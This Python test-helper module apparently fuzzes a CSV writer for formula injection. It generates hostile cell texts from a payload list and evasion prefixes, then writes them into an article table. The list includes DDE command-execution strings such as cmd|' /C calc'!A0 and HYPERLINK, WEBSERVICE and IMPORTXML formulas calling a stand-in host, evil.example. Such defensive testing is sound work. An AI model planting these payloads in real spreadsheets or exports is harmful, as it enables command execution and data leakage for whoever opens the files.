"""Texts that play formulas, and the CSV that is written of them."""

import csv
from collections.abc import Sequence
from pathlib import Path
from random import Random

from credscore.writers.cells import Spelling, text
from credscore.writers.lines import csv_lines

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "={1;2}", "=A1", "=#REF!", "=TODAY()"),
    *('=HYPERLINK("http://evil.example";"x")', '=WEBSERVICE("http://evil.example")'),
    *("=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"),
    *('=DDE("soffice";"x";"y")', "-2+3+cmd|' /C calc'!A0", '=1+1";=1+1;"'),
    '=IMPORTXML(CONCAT("http://evil.example"))',
)
BEFORE = (
    *("", "", " ", "\t", "\r", "\n", "\r\n", '"', "'", "''", '""', ";", "; ", ';"', ",", '","'),
    *('";"', "a;", "a\n", "a\t", "\ufeff", "\u00a0", "\u3000", "\u200b", "\\", "\\n", "x;'"),
    *("\x00", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "%0A", "&#10;", "|", "^", "{", "(", "$"),
    *("~", "a; \t"),
)
WIDE = str.maketrans("=+-@", "＝＋－＠")


def hostile_texts(number: int, chance: Random) -> list[str]:
    """Return so many texts, some well known, most put together by chance."""
    pieces = (*FORMULAS, *(formula.translate(WIDE) for formula in FORMULAS))
    known = [before + formula for before in BEFORE for formula in pieces]
    while len(known) < number:
        drawn = [chance.choice(BEFORE) + chance.choice((*pieces, "word")) for _ in range(3)]
        known.append("".join(drawn)[: chance.randrange(1, 80)])
    return known[:number]


def written(texts: Sequence[str], path: Path, spell: Spelling = text) -> Path:
    """Write the texts as cells of a table of articles."""
    rows = [["article_id", "title", "credibility", "author"]]
    rows += [[f"a-{at}", spell(one), "-0.5", spell(one)] for at, one in enumerate(texts)]
    path.write_bytes(csv_lines(rows).encode("utf-8", "backslashreplace"))
    return path


def cells_of(path: Path, column: int) -> list[str]:
    """Return one column of a CSV."""
    with path.open(encoding="utf-8", newline="") as file:
        return [row[column] for row in csv.reader(file)][1:]
